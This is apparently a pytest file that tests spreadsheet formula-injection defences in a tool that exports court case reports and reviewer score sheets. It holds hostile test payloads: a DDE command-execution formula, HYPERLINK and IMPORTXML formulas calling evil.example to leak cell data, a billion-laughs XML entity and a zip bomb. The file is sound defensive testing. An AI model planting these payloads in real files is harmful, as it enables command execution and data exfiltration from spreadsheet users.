"""Spreadsheets are data, not programs: user text that a spreadsheet would run as a formula is
written as text, with a leading apostrophe, in every CSV and XLSX the product writes; numbers
stay numbers; the product's own formulas stay formulas. Returned score sheets count a formula
by its calculated value, never by evaluating anything, and refuse what cannot be used by cell.

Hostile text goes in through the files editors and reviewers write (brand, court, case and
packet YAML, reviewers' sheets); outputs are read back with csv and openpyxl, and opened in
LibreOffice (which evaluates formulas in CSV and XLSX) to see what a spreadsheet would show.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from conftest import Cli
from openpyxl import Workbook, load_workbook

from showcase.core.spreadsheet import Formula, append_row, needs_quote, safe_cell, safe_text, set_cell, unquote

FIXTURES = Path(__file__).parent / "fixtures" / "packets"
pytestmark = pytest.mark.fixture_project("packets/project")
EPOCH = "1710460800"  # 2024-03-15T00:00:00Z

# The payloads of issue 11, each as an editor could type it into a YAML or Markdown field.
PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/","点我")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "＝1+1",
}
# Characters that start a formula in some spreadsheet application, as the first character of a cell.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

# ---------------------------------------------------------------------------- the rule

NEUTRALISED = [
    *PAYLOADS.values(),
    "=cmd|' /C calc'!A0",  # DDE
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
    "=1+1\n第二行",
    "\n=1+1",
    " =1+1",  # leading space
    "\u3000=1+1",  # ideographic space
    "\u00a0@SUM(A1)",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # a BOM pasted in
    "\u202e=1+1",  # right-to-left override
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "﹦1+1",  # small form variant
    "⁼1+1",  # superscript equals (NFKC folds it)
    "\t",
    "\r",
    "\t普通文字",  # a tab alone starts a cell split in some importers
    "-",
    "- 材料扎实，建议推荐",  # a reviewer's bullet
    "'=1+1",  # an apostrophe the editor typed: doubled, so the text survives
    "''+1",
]
UNCHANGED = [
    "党旗引领·法耀浔州",
    "（2023）桂0881民初1234号",
    "2024-03-01",
    "a=b",
    "邮箱 a@b.cn",
    "3/5",
    "",
    "'",
    "'普通文字",
    "——",
    "−2",
    "＃N/A",
    "8.5",
    " 前导空格",
]


@pytest.mark.parametrize("text", NEUTRALISED, ids=repr)
def test_text_that_would_run_gets_one_leading_apostrophe(text: str) -> None:
    assert needs_quote(text)
    assert safe_text(text) == "'" + text
    assert unquote(safe_text(text)) == text


@pytest.mark.parametrize("text", UNCHANGED, ids=repr)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_text(text) == text and unquote(text) == text


@pytest.mark.parametrize("value", [-5, 0, 8.5, -0.25, Decimal("-1.50"), Decimal("83.33"), None, True])
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) is value


def test_xlsx_cells_are_typed(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    set_cell(sheet["A1"], "=1+1")
    set_cell(sheet["A2"], "#N/A")  # openpyxl alone would write an error value
    set_cell(sheet["A3"], "响铃\x07字符")  # XML cannot carry it; openpyxl alone raises
    set_cell(sheet["A4"], Formula("=SUM(1,2)"))
    set_cell(sheet["A5"], -5)
    append_row(sheet, ["@SUM(A1)", 3, None])
    set_cell(sheet["C1"], "=" + "长" * 40_000)  # beyond Excel's 32,767 characters per cell
    with pytest.raises(ValueError):
        Formula("SUM(1,2)")
    workbook.save(tmp_path / "t.xlsx")
    back = load_workbook(tmp_path / "t.xlsx")["Sheet"]
    assert [(c.value, c.data_type) for c in back["A"]] == [
        ("'=1+1", "s"),
        ("#N/A", "s"),
        ("响铃\ufffd字符", "s"),
        ("=SUM(1,2)", "f"),
        (-5, "n"),
        ("'@SUM(A1)", "s"),
    ]
    assert back["B6"].value == 3
    assert (
        len(back["C1"].value) == 32_767
        and back["C1"].value.startswith("'=长")
        and back["C1"].value.endswith("以下从略）")
    )


# ---------------------------------------------------------------------------- fixture project


def scalar(text: str) -> str:
    """A YAML scalar for any text: JSON strings are YAML double-quoted scalars."""
    return json.dumps(text, ensure_ascii=False)


@pytest.fixture
def project(project: Path) -> Path:
    """The packet fixture project, with a payload in every text field that reaches a spreadsheet."""
    root = project
    court = root / "brands" / "courts" / "demo" / "court.yml"
    court.write_text(
        court.read_text(encoding="utf-8").replace(
            "short_name: 示例法院", f"short_name: {scalar(PAYLOADS['hyperlink'])}"
        ),
        encoding="utf-8",
    )
    plain = root / "brands" / "courts" / "demo" / "brands" / "plain-brand.yml"
    plain.write_text(
        plain.read_text(encoding="utf-8").replace("name: 红心向党·示例护航", f"name: {scalar(PAYLOADS['at'])}"),
        encoding="utf-8",
    )
    template = (root / "brands" / "courts" / "demo" / "brands" / "plain-brand.yml").read_text(encoding="utf-8")
    case = (root / "docs" / "cases" / "demo" / "gamma.md").read_text(encoding="utf-8")
    for index, (key, payload) in enumerate(PAYLOADS.items()):
        brand = template.replace("id: plain-brand", f"id: evil-{key}").replace(
            f"name: {scalar(PAYLOADS['at'])}", f"name: {scalar(payload)}"
        )
        brand = brand.replace("liaison: 支部组织委员", f"liaison: {scalar(payload)}").replace(
            "branch: 机关第一党支部", f"branch: {scalar(payload)}"
        )
        (root / "brands" / "courts" / "demo" / "brands" / f"evil-{key}.yml").write_text(brand, encoding="utf-8")
        text = case.replace("title: 丙案例——机关支部微课堂", f"title: {scalar(payload)}").replace(
            "brand: plain-brand", f"brand: evil-{key}"
        )
        (root / "docs" / "cases" / "demo" / f"evil-{index}-{key}.md").write_text(text, encoding="utf-8")
    cases = ", ".join(f"demo/evil-{index}-{key}" for index, key in enumerate(PAYLOADS))
    (root / "packets" / "evil.yml").write_text(
        "\n".join(
            [
                f"title: {scalar(PAYLOADS['hyperlink'])}",
                "campaign: case-selection",
                "date: 2024-03-15",
                "criteria:",
                "  innovation: {weight: 30, range: [0, 10]}",
                "  practicality: {weight: 25, range: [0, 10]}",
                "  operability: {weight: 20, range: [0, 10]}",
                "  exemplarity: {weight: 25, range: [0, 10]}",
                f"cases: [demo/gamma, {cases}]",
                'reviewers: ["=1+1", "+1+1", "-2+3", "@SUM(A1)"]',
                "",
            ]
        ),
        encoding="utf-8",
    )
    return root


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def shows(cell: object, text: str) -> bool:
    """The cell is text, cannot start a formula, and shows the original text after the apostrophe."""
    if not isinstance(cell, str) or cell.startswith(FORMULA_LEADS):
        return False
    lines = cell.replace("\r\n", "\n").replace("\r", "\n")  # XML and CSV readers may fold a lone CR
    return lines == "'" + text.replace("\r", "\n")


def libreoffice_csv(
    files: list[Path], out: Path, profile: Path, *, csv_input: bool = False
) -> dict[str, list[list[str]]]:
    """Open each file in LibreOffice (which calculates formulas) and save every sheet as CSV."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.fail("soffice 未安装：运行 bash scripts/install-system-deps.sh")
    command = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    if csv_input:
        command.append("--infilter=CSV:44,34,76,1")  # comma, double quote, UTF-8, from line 1
    # Field options: comma, quote, UTF-8, …, as shown, …, sheet -1 = every sheet to its own file.
    command += [
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1",
        "--outdir",
        str(out),
        *map(str, files),
    ]
    result = subprocess.run(command, capture_output=True, text=True, timeout=240, check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    return {path.stem: csv_rows(path) for path in sorted(out.glob("*.csv"))}


# ---------------------------------------------------------------------------- tracking report


def test_report_csv_writes_names_and_liaisons_as_text(project: Path, tmp_path: Path, cli: Cli) -> None:
    brands_csv, courts_csv = tmp_path / "r.csv", tmp_path / "courts.csv"
    assert cli("--root", str(project), "report", "--out", str(brands_csv), "--today", "2024-03-31")[0] == 0
    assert cli("--root", str(project), "report", "--courts", "--out", str(courts_csv), "--today", "2024-03-31")[0] == 0
    header, *rows = csv_rows(brands_csv)
    by_id = {row[header.index("品牌标识")]: dict(zip(header, row, strict=True)) for row in rows}
    for key, payload in PAYLOADS.items():
        row = by_id[f"evil-{key}"]
        for column in ("品牌", "党支部", "联络员", "法院"):
            expected = PAYLOADS["hyperlink"] if column == "法院" else payload
            assert shows(row[column], expected), (column, row[column])
        assert row["案例数"] == "1" and row["载体数"] == "0"  # counts: plain digits, no apostrophe
    assert shows(by_id["plain-brand"]["品牌"], PAYLOADS["at"])
    assert by_id["demo-brand"]["品牌"] == "党旗引领·示例枫桥"  # ordinary text untouched

    header, *rows = csv_rows(courts_csv)
    demo = dict(zip(header, next(r for r in rows if r[0] == "demo"), strict=True))
    assert shows(demo["法院"], PAYLOADS["hyperlink"])
    assert not demo["无案例的品牌"].startswith(FORMULA_LEADS)

    # LibreOffice evaluates formulas when it opens a CSV: the cells must still show the text.
    raw = tmp_path / "raw.csv"
    raw.write_text("名称\r\n=1+1\r\n", encoding="utf-8-sig")  # the control: an unprotected cell
    opened = libreoffice_csv([brands_csv, raw], tmp_path / "lo", tmp_path / "profile", csv_input=True)
    assert opened["raw-raw"][1] == ["2"]  # it does calculate; so the checks below mean something
    header, *rows = opened["r-r"]
    by_id = {row[header.index("品牌标识")]: dict(zip(header, row, strict=True)) for row in rows}
    for key, payload in PAYLOADS.items():
        row = by_id[f"evil-{key}"]
        assert shows(row["品牌"], payload) and shows(row["联络员"], payload), row
        assert row["案例数"] == "1"
    assert "点我" not in {cell for row in rows for cell in row}


def test_negative_numbers_in_the_report_stay_numbers(project: Path, tmp_path: Path, cli: Cli) -> None:
    out = tmp_path / "r.csv"
    # "Today" before the files were written: days since the last change are negative numbers.
    assert cli("--root", str(project), "report", "--out", str(out), "--today", "2000-01-01")[0] == 0
    header, *rows = csv_rows(out)
    days = [row[header.index("改动距今天数")] for row in rows]
    assert days and all(day.startswith("-") and day[1:].isdigit() for day in days)


# ---------------------------------------------------------------------------- packets


def build(project: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    code, out = cli("--root", str(project), "packet", "build", "evil")
    assert code == 0, out
    return project / "build" / "packets" / "evil"


def fill(path: Path, scores: object = 8, comment: str | None = None) -> None:
    """A reviewer types scores (and a comment) into every yellow cell."""
    workbook = load_workbook(path)
    sheet = workbook["评分表"]
    for row in range(6, 6 + 1 + len(PAYLOADS)):
        for column in "DEFG":
            sheet[f"{column}{row}"] = scores
        if comment is not None:
            sheet[f"I{row}"] = comment
            sheet[f"I{row}"].data_type = "s"  # typed as text, as Excel stores '=… after the apostrophe
    workbook.save(path)


def test_score_sheet_writes_titles_and_courts_as_text_and_keeps_its_formulas(
    project: Path, tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = build(project, cli, monkeypatch)
    workbook = load_workbook(out / "scoresheet.xlsx")
    sheet = workbook["评分表"]
    assert shows(sheet["A1"].value, PAYLOADS["hyperlink"] + " · 评分表")  # the spec's title
    for offset, payload in enumerate(PAYLOADS.values(), start=1):
        row = 6 + offset
        title, court = sheet.cell(row=row, column=2), sheet.cell(row=row, column=3)
        assert title.data_type == "s" and shows(title.value, payload), title.value
        assert court.data_type == "s" and shows(court.value, PAYLOADS["hyperlink"])
        assert sheet.cell(row=row, column=1).value == offset + 1  # 序号 is a number
        assert sheet.cell(row=row, column=8).data_type == "f" and sheet.cell(row=row, column=8).value.startswith(
            "=IF(COUNT(D"
        )
    assert sheet["H4"].data_type == "f" and sheet["D4"].value == 30  # weight sum formula, weights as numbers
    meta = [[c.value for c in row] for row in workbook["_packet"].iter_rows()]
    assert not [v for row in meta for v in row if isinstance(v, str) and v.startswith(FORMULA_LEADS)]
    assert not [
        c.coordinate
        for ws in workbook
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" and not str(c.value).startswith(("=IF(COUNT(", "=SUM("))
    ]
    named = load_workbook(out / "scoresheets" / "+1+1.xlsx")["评分表"]["B2"]
    assert named.data_type == "s" and shows(named.value, "+1+1")

    # A filled sheet, opened in LibreOffice: titles show as text, the totals still calculate.
    filled = tmp_path / "filled.xlsx"
    shutil.copy(out / "scoresheets" / "=1+1.xlsx", filled)
    fill(filled, 8)
    opened = libreoffice_csv([out / "scoresheet.xlsx", filled], tmp_path / "lo", tmp_path / "profile")
    for name in ("scoresheet-评分表", "filled-评分表"):
        rows = opened[name]
        assert shows(rows[0][0], PAYLOADS["hyperlink"] + " · 评分表")
        for offset, payload in enumerate(PAYLOADS.values(), start=1):
            assert shows(rows[5 + offset][1], payload), rows[5 + offset]
            assert shows(rows[5 + offset][2], PAYLOADS["hyperlink"])
    assert opened["filled-评分表"][1][1] == "'=1+1"  # the reviewer's name
    assert [row[7] for row in opened["filled-评分表"][5 : 6 + len(PAYLOADS)]] == ["80.00"] * (1 + len(PAYLOADS))
    assert all(not cell.startswith(FORMULA_LEADS) for rows in opened.values() for row in rows for cell in row)
    assert "点我" not in {cell for rows in opened.values() for row in rows for cell in row}


def test_rankings_write_titles_reviewers_files_and_comments_as_text(
    project: Path, tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = build(project, cli, monkeypatch)
    returned = tmp_path / "交回"
    shutil.copytree(out / "scoresheets", returned)
    comments = dict(
        zip(
            ["=1+1", "+1+1", "-2+3", "@SUM(A1)"],
            [PAYLOADS["hyperlink"], "- 材料扎实", "@张三 请复核", "\t=1+1"],
            strict=True,
        )
    )
    for index, (reviewer, comment) in enumerate(comments.items()):
        fill(returned / f"{reviewer}.xlsx", 6 + index, comment)
    code, said = cli(
        "--root", str(project), "packet", "score", "evil", str(returned), "--no-page", "--out", str(tmp_path / "result")
    )
    assert code == 0, said

    workbook = load_workbook(tmp_path / "result" / "result.xlsx")
    summary, detail = workbook["排名"], workbook["评分明细"]
    assert shows(summary["A1"].value, PAYLOADS["hyperlink"] + " · 评审结果")
    headers = [c.value for c in summary[4]]
    for reviewer in comments:
        assert any(shows(h, reviewer) for h in headers), headers
    rows = [[c for c in row] for row in summary.iter_rows(min_row=5)]
    titles = {row[3].value for row in rows}
    for payload in PAYLOADS.values():
        assert "'" + payload.replace("\r", "\n") in {t.replace("\r", "\n") for t in titles}
    for row in rows:
        assert (
            row[0].data_type == "n" and row[6].data_type == "n" and isinstance(row[6].value, (int, float))
        )  # rank, final score
        assert shows(row[4].value, PAYLOADS["hyperlink"])  # court
        assert all(c.data_type != "f" for c in row)
    for row in detail.iter_rows(min_row=2):
        reviewer, file, _, title, *_, comment = (c.value for c in row)
        assert shows(reviewer, unquote(reviewer)) and reviewer[1:] in comments
        assert shows(file, f"{reviewer[1:]}.xlsx")
        assert shows(comment, comments[reviewer[1:]].strip())  # comments are read stripped
        assert not title.startswith(FORMULA_LEADS)
    assert not [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]

    header, *lines = csv_rows(tmp_path / "result" / "result.csv")
    for reviewer in comments:
        assert "'" + reviewer in header
    for line in lines:
        record = dict(zip(header, line, strict=True))
        assert shows(record["法院"], PAYLOADS["hyperlink"])
        assert Decimal(record["最终得分"]) > 0 and record["名次"].isdigit()
        assert not record["案例标题"].startswith(FORMULA_LEADS)

    opened = libreoffice_csv(
        [tmp_path / "result" / "result.xlsx", tmp_path / "result" / "result.csv"], tmp_path / "lo", tmp_path / "profile"
    )
    cells = {cell for rows in opened.values() for row in rows for cell in row}
    assert not [cell for cell in cells if cell.startswith(FORMULA_LEADS)]
    assert "点我" not in cells  # the link's text, had it become a formula
    assert "'" + PAYLOADS["hyperlink"] in cells and "'- 材料扎实" in cells


# ---------------------------------------------------------------------------- reading sheets back


def recalculate(folder: Path, out: Path, profile: Path) -> None:
    """Open and save each sheet in LibreOffice, which stores every formula's calculated value."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.fail("soffice 未安装：运行 bash scripts/install-system-deps.sh")
    command = [
        soffice,
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        "--convert-to",
        "xlsx:Calc MS Excel 2007 XML",
        "--outdir",
        str(out),
    ]
    result = subprocess.run(
        [*command, *map(str, sorted(folder.glob("*.xlsx")))], capture_output=True, text=True, timeout=240, check=False
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_returned_formulas_count_by_their_result_or_are_refused_by_cell(
    project: Path, tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = build(project, cli, monkeypatch)
    typed = tmp_path / "typed"
    shutil.copytree(out / "scoresheets", typed)
    for name in ("=1+1", "+1+1", "-2+3", "@SUM(A1)"):
        fill(typed / f"{name}.xlsx", 8)
    workbook = load_workbook(typed / "+1+1.xlsx")
    sheet = workbook["评分表"]
    sheet["D6"] = "=4+4"  # a sum typed in: counts as 8
    sheet["E6"] = "=D6"  # the same score as the cell before it
    sheet["F6"] = "=1/0"  # an error value
    sheet["G6"] = '="八"'  # text
    sheet["I6"] = '="很好"&"，建议推荐"'  # a comment made by a formula: its text is kept
    workbook.save(typed / "+1+1.xlsx")
    workbook = load_workbook(typed / "-2+3.xlsx")
    workbook["评分表"]["B2"] = '=HYPERLINK("http://evil.example/","点我")'  # a formula for a name
    workbook.save(typed / "-2+3.xlsx")
    # Saved by a spreadsheet application: formulas carry their calculated values, as Excel and WPS write them.
    calculated = tmp_path / "calculated"
    recalculate(typed, calculated, tmp_path / "profile")
    assert load_workbook(calculated / "+1+1.xlsx", data_only=True)["评分表"]["D6"].value == 8  # the premise

    code, said = cli(
        "--root",
        str(project),
        "packet",
        "score",
        "evil",
        str(calculated),
        "--no-page",
        "--out",
        str(tmp_path / "result"),
    )
    assert code == 1, said
    assert "[警告] +1+1.xlsx 评分表!D6: 创新性 得分是公式“=4+4”，按其计算结果 8 计分" in said
    assert "[警告] +1+1.xlsx 评分表!E6: 实践性 得分是公式“=D6”，按其计算结果 8 计分" in said
    assert "+1+1.xlsx 评分表!F6: 操作性 得分“#DIV/0!”（公式“=1/0”的结果）不是数字（是错误值）" in said
    assert '+1+1.xlsx 评分表!G6: 示范性 得分“八”（公式“="八"”的结果）不是数字（是文字）' in said
    assert (
        '-2+3.xlsx 评分表!B2: 评审人姓名是公式“=HYPERLINK("http://evil.example/","点我")” — 请直接输入评审人姓名'
        in said
    )
    assert "共发现 3 个问题，未计分" in said and "Traceback" not in said

    # Fixed by the reviewers: the warnings remain, the formula results count, the comment keeps its words.
    workbook = load_workbook(typed / "+1+1.xlsx")
    workbook["评分表"]["F6"], workbook["评分表"]["G6"] = 8, 8
    workbook.save(typed / "+1+1.xlsx")
    shutil.copy(out / "scoresheets" / "-2+3.xlsx", typed / "-2+3.xlsx")
    fill(typed / "-2+3.xlsx", 8)
    recalculate(typed, calculated, tmp_path / "profile")
    code, said = cli(
        "--root",
        str(project),
        "packet",
        "score",
        "evil",
        str(calculated),
        "--no-page",
        "--out",
        str(tmp_path / "result"),
    )
    assert code == 0, said
    assert said.count("[警告]") == 2
    detail = load_workbook(tmp_path / "result" / "result.xlsx")["评分明细"]
    assert "很好，建议推荐" in {row[-1].value for row in detail.iter_rows(min_row=2)}
    finals = {
        row[6]
        for row in load_workbook(tmp_path / "result" / "result.xlsx")["排名"].iter_rows(min_row=5, values_only=True)
    }
    assert finals == {80.0}


def test_a_sheet_that_inflates_beyond_reason_is_refused_before_parsing(
    project: Path, tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = build(project, cli, monkeypatch)
    bomb = tmp_path / "交回" / "=1+1.xlsx"
    bomb.parent.mkdir()
    with (
        zipfile.ZipFile(out / "scoresheets" / "=1+1.xlsx") as source,
        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item, source.read(item))
        target.writestr("xl/media/padding.bin", b"\0" * 30_000_000)  # 30 MB of zeros: ~30 KB zipped
    code, said = cli(
        "--root", str(project), "packet", "score", "evil", str(bomb), "--no-page", "--out", str(tmp_path / "result")
    )
    assert code == 1 and "=1+1.xlsx: 评分表解压后超过 20 MB" in said and "Traceback" not in said


def test_entity_tricks_in_a_returned_sheet_are_refused(
    project: Path, tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A "billion laughs" in the sheet's XML: refused by defusedxml, which openpyxl then uses."""
    out = build(project, cli, monkeypatch)
    hostile = tmp_path / "=1+1.xlsx"
    laughs = (
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c '
        '"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    )
    with zipfile.ZipFile(out / "scoresheets" / "=1+1.xlsx") as source, zipfile.ZipFile(hostile, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode("utf-8")
                assert text.startswith("<worksheet") and "<t>" in text  # openpyxl writes no XML declaration
                data = (laughs + text.replace("<t>", "<t>&c;", 1)).encode("utf-8")
            target.writestr(item, data)
    code, said = cli(
        "--root", str(project), "packet", "score", "evil", str(hostile), "--no-page", "--out", str(tmp_path / "result")
    )
    assert code == 1 and "Traceback" not in said, said
    assert "=1+1.xlsx: 无法打开评分表" in said, said


def test_broken_or_tampered_sheets_are_unreadable_not_a_crash(
    project: Path, tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = build(project, cli, monkeypatch)
    folder = tmp_path / "交回"
    folder.mkdir()

    def rewrite(name: str, part: str, change: object) -> None:
        with (
            zipfile.ZipFile(out / "scoresheets" / "=1+1.xlsx") as source,
            zipfile.ZipFile(folder / name, "w") as target,
        ):
            for item in source.infolist():
                data = source.read(item)
                target.writestr(item, change(data.decode("utf-8")).encode("utf-8") if item.filename == part else data)  # type: ignore[operator]

    rewrite("坏XML.xlsx", "xl/worksheets/sheet1.xml", lambda text: text[: len(text) // 2])  # cut off mid-file
    rewrite(
        "坏元数据.xlsx", "xl/worksheets/sheet3.xml", lambda text: text.replace("<t>30.0</t>", "<t>三十</t>", 1)
    )  # a weight that is no number
    code, said = cli(
        "--root", str(project), "packet", "score", "evil", str(folder), "--no-page", "--out", str(tmp_path / "result")
    )
    assert code == 1 and "Traceback" not in said and "出错了" not in said, said
    assert "坏XML.xlsx: 无法打开评分表" in said
    assert "坏元数据.xlsx: 这不是本工具生成的评分表" in said


def test_dates_typed_as_scores_are_named(
    project: Path, tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = build(project, cli, monkeypatch)
    sheet_path = tmp_path / "=1+1.xlsx"
    shutil.copy(out / "scoresheets" / "=1+1.xlsx", sheet_path)
    fill(sheet_path, 8)
    workbook = load_workbook(sheet_path)
    workbook["评分表"]["D6"] = dt.datetime(2024, 8, 5)  # "8-5" typed, turned into 8月5日 by Excel
    workbook.save(sheet_path)
    code, said = cli(
        "--root",
        str(project),
        "packet",
        "score",
        "evil",
        str(sheet_path),
        "--no-page",
        "--out",
        str(tmp_path / "result"),
    )
    assert code == 1
    assert "=1+1.xlsx 评分表!D6: 创新性 得分“2024-08-05 00:00:00”不是数字（是日期）" in said
